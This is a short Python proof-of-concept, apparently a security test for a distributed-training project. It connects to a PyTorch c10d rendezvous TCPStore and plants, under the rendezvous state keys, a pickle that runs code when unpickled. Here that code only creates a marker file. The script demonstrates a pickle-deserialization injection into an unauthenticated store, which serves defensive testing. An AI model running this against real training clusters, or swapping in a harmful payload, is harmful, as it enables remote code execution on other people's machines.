"""What a program that is not part of a job can write into its rendezvous store.

Run as ``python rdzv_attack.py HOST PORT RUN_ID MARKER``: connects to the store
(``RUN_ID`` "agreed": reads the job's id there) and writes, under every key a
c10d rendezvous state could live at (torch's and ours), a pickle that creates
``MARKER`` when unpickled, plain and base64'd.
Importable too: :func:`payload` is the pickle the unit tests use.
"""

from __future__ import annotations

import base64
import pickle
import sys
from datetime import timedelta


class _CreatesFile:
    """Unpickling this opens (creates) a file: proof that code ran."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.marker, "w"))


def payload(marker: str) -> bytes:
    """A pickle that creates ``marker`` when anything unpickles it."""
    return pickle.dumps(_CreatesFile(marker))


def keys(run_id: str) -> list[str]:
    """Where a c10d rendezvous keeps its state: torch's key and ours."""
    return [f"torch.rendezvous.{run_id}", f"manygpu.rendezvous.{run_id}"]


def attack(host: str, port: int, run_id: str, marker: str) -> None:
    from torch.distributed import TCPStore

    store = TCPStore(host, port, is_master=False, timeout=timedelta(seconds=20))
    if run_id == "agreed":  # not a secret from anyone who reaches the store
        run_id = store.get("manygpu.run_id").decode()
    bits = payload(marker)
    for key in keys(run_id):
        store.set(key, base64.b64encode(bits))
    store.set(keys(run_id)[1], bits)  # and raw, for a backend that skips base64


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4])
